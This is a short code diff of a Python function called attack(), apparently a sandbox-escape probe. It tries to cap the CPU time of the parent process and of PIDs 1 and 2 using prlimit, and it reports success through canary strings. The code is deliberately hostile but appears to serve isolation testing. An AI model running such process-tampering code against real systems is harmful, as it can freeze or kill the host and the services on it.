@@ -17,13 +17,12 @@ def attack():
                         done.append(f"CANARY-RAISED {name}")
                 except (OSError, ValueError):
                     pass
-    for pid in (os.getppid(), 1, 2):
-        if pid != os.getpid():
-            try:
-                resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
-                done.append(f"CANARY-LIMITED {pid}")
-            except OSError:
-                pass
+    for pid in {os.getppid(), 1, 2} - {0, os.getpid()}:
+        try:
+            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
+            done.append(f"CANARY-LIMITED {pid}")
+        except OSError:
+            pass
     raise RuntimeError(f"FOUND {done}")
 
 
